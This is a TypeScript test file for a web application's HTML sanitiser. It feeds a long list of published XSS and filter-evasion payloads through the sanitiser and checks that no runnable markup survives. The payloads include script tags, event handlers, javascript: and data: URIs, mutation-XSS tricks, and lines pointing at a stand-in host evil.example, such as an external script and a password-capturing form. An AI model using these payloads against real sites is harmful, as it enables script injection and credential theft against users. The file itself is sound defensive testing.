import { describe, expect, it } from 'vitest';
import { contentImageName, isBlankBody, isSiteImage, linkKind, sanitiseBody } from './sanitize.js';

const UPLOAD = `/api/content/image/${'a'.repeat(43)}.png`;

/**
 * Known injection payloads (OWASP's filter-evasion cheat sheet, PortSwigger's XSS list, published
 * mutation-XSS bypasses of sanitisers). Each must come out with no markup that can run anything.
 */
const PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<script>/*</script><p>kept</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/banners/1.svg" onerror="alert(1)">',
  `<img src="${UPLOAD}" onload="alert(1)" onerror=alert(2)>`,
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("x")`>',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img """><script>alert(1)</script>">',
  '<img src=/ onerror="alert(1)"//>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="java&#x0A;script:alert(1)">click</a>',
  '<a href="java&#x0D;script:alert(1)">click</a>',
  '<a href=" &#14; javascript:alert(1)">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="\u0001javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">click</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="/\\evil.example/">backslash</a>',
  '<a href="https://ok.example/" onclick="alert(1)" onmouseover=alert(2)>ok</a>',
  '<a href="https://ok.example/" style="position:fixed;inset:0">overlay</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="https://evil.example/track.png">',
  '<img src="/api/common/image/5">',
  '<img src="/banners/../uploads/x.png">',
  '<img srcset="https://evil.example/a.png 1x" src="/banners/1.svg">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<p style="width:expression(alert(1))">styled</p>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<style>@import "https://evil.example/x.css";</style><p>after</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>unclosed <strong>tags <em>everywhere',
  '<div><p>nested <div>blocks</p></div>',
  '<table><tr><td onclick=alert(1) style="x" colspan="2 onmouseover=alert(1)">cell</td></tr></table>',
  '<p id="x" class="y" data-x="1" tabindex="1" contenteditable>attrs</p>',
  '<a href="https://ok.example/" target="_self" rel="opener">opener</a>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '"><script>alert(1)</script>',
  "'';!--\"<XSS>=&{()}",
];

const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'hr',
  'h2',
  'h3',
  'h4',
  'strong',
  'em',
  'u',
  's',
  'a',
  'ul',
  'ol',
  'li',
  'blockquote',
  'code',
  'pre',
  'img',
  'table',
  'caption',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
]);

const ALLOWED_ATTRIBUTES: Record<string, Set<string>> = {
  a: new Set(['href', 'title', 'rel', 'target']),
  img: new Set(['src', 'alt', 'width', 'height']),
  ol: new Set(['start']),
  td: new Set(['colspan', 'rowspan']),
  th: new Set(['colspan', 'rowspan']),
};

/** Every tag and attribute of the output, read by hand so the check does not share the sanitiser's parser. */
function expectOnlyAllowedMarkup(html: string): void {
  for (const tag of html.matchAll(/<\/?([^\s/>]+)([^>]*)>/g)) {
    const name = tag[1]!.toLowerCase();
    expect(ALLOWED_TAGS.has(name), `tag <${name}> in ${html}`).toBe(true);
    for (const attribute of tag[2]!.matchAll(/\s([^\s=/]+)(?:="([^"]*)")?/g)) {
      const attr = attribute[1]!.toLowerCase();
      expect(ALLOWED_ATTRIBUTES[name]?.has(attr), `attribute ${attr} on <${name}> in ${html}`).toBe(true);
      const value = attribute[2] ?? '';
      if (attr === 'href') expect(linkKind(decode(value)), `href ${value}`).not.toBeNull();
      if (attr === 'src') expect(isSiteImage(decode(value)), `src ${value}`).toBe(true);
    }
  }
  expect(html).not.toMatch(/javascript:|vbscript:|data:|<script|<svg|<iframe|<style|\son\w+=/i);
}

function decode(value: string): string {
  return value.replace(/&amp;/g, '&').replace(/&quot;/g, '"');
}

describe('sanitiseBody', () => {
  it.each(PAYLOADS)('leaves nothing that runs: %s', (payload) => {
    const { html } = sanitiseBody(payload);
    expectOnlyAllowedMarkup(html);
    // Sanitising its own output changes nothing: what is stored is what every parser reads.
    expect(sanitiseBody(html).html).toBe(html);
  });

  it('keeps the text of refused links and tags, and drops code with its content', () => {
    expect(sanitiseBody('<a href="javascript:alert(1)">click here</a>').html).toBe('click here');
    expect(sanitiseBody('<form><label>Name</label></form>').html).toBe('Name');
    expect(sanitiseBody('<script>alert(1)</script><p>after</p>').html).toBe('<p>after</p>');
    expect(sanitiseBody('<svg onload=alert(1)><text>hidden</text></svg>after').html).toBe('after');
    expect(sanitiseBody('<style>p{}</style>x').html).toBe('x');
    expect(sanitiseBody('<iframe srcdoc="<script>alert(1)</script>">fallback</iframe>x').html).toBe('x');
    // A refused link or image leaves the markup after it as it was.
    expect(sanitiseBody('<a href="javascript:x">l</a><p>s</p>after').html).toBe('l<p>s</p>after');
    expect(sanitiseBody('<img src=x onerror=alert(1)><p>s</p>after').html).toBe('<p>s</p>after');
  });

  it('keeps the allowed formatting as written', () => {
    const body =
      '<h2>Title</h2><h3>Sub</h3><h4>Small</h4><p>A <strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code></p>' +
      '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote>q</blockquote><pre>pre</pre><hr /><br />' +
      '<table><caption>cap</caption><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2">d</td></tr></tbody></table>';
    expect(sanitiseBody(body).html).toBe(body);
  });

  it('maps what editors produce onto the allowed tags', () => {
    expect(sanitiseBody('<b>b</b><i>i</i><strike>s</strike><h1>t</h1><h6>x</h6>').html).toBe(
      '<strong>b</strong><em>i</em><s>s</s><h2>t</h2><h4>x</h4>',
    );
    expect(sanitiseBody('<div>one</div><div>two</div>').html).toBe('<p>one</p><p>two</p>');
  });

  it('opens outside links in a new tab with no opener, referrer or endorsement; site links stay', () => {
    expect(
      sanitiseBody('<a href="https://ok.example/x?a=1&amp;b=2" target="_self" rel="opener">x</a>').html,
    ).toBe(
      '<a href="https://ok.example/x?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(sanitiseBody('<a href="mailto:support@demo.test">mail</a>').html).toContain(
      'href="mailto:support@demo.test"',
    );
    expect(sanitiseBody('<a href="/notice?id=66&amp;category_id=26">policy</a>').html).toBe(
      '<a href="/notice?id=66&amp;category_id=26">policy</a>',
    );
  });

  it('keeps images only from the seed banners and uploaded content images, and lists the uploads', () => {
    const body = `<p><img src="${UPLOAD}" alt="chart" width="600" height="abc" /><img src="/banners/2.svg" /></p>`;
    const result = sanitiseBody(body);
    expect(result.html).toBe(
      `<p><img src="${UPLOAD}" alt="chart" width="600" /><img src="/banners/2.svg" alt="" /></p>`,
    );
    expect(result.images).toEqual(['a'.repeat(43) + '.png']);
    expect(
      sanitiseBody('<img src="https://evil.example/a.png"><img src="/api/content/image/x.png">').html,
    ).toBe('');
  });

  it('flattens markup nested past the limit into text', () => {
    const deep = '<blockquote>'.repeat(200) + 'deep' + '</blockquote>'.repeat(200);
    const { html } = sanitiseBody(deep);
    expect(html).toContain('deep');
    expect(html.match(/<blockquote>/g)!.length).toBeLessThanOrEqual(40);
  });
});

describe('the small helpers', () => {
  it('classifies links', () => {
    expect(linkKind('https://ok.example')).toBe('external');
    expect(linkKind('http://ok.example')).toBe('external');
    expect(linkKind('mailto:a@b.c')).toBe('external');
    expect(linkKind('/notice?id=1')).toBe('site');
    for (const bad of [
      'javascript:alert(1)',
      'data:text/html,x',
      '//evil.example',
      '/\\evil',
      'ftp://x',
      'java\nscript:x',
      '',
      'relative',
    ]) {
      expect(linkKind(bad), bad).toBeNull();
    }
  });

  it('names uploaded images only by their exact public path', () => {
    expect(contentImageName(UPLOAD)).toBe('a'.repeat(43) + '.png');
    expect(contentImageName('/api/content/image/../x.png')).toBeNull();
    expect(contentImageName(`${UPLOAD}?x`)).toBeNull();
  });

  it('tells a blank body', () => {
    expect(isBlankBody('')).toBe(true);
    expect(isBlankBody('<p> &nbsp; </p><br />')).toBe(true);
    expect(isBlankBody('<p>x</p>')).toBe(false);
    expect(isBlankBody('<img src="/banners/1.svg" alt="" />')).toBe(false);
  });
});
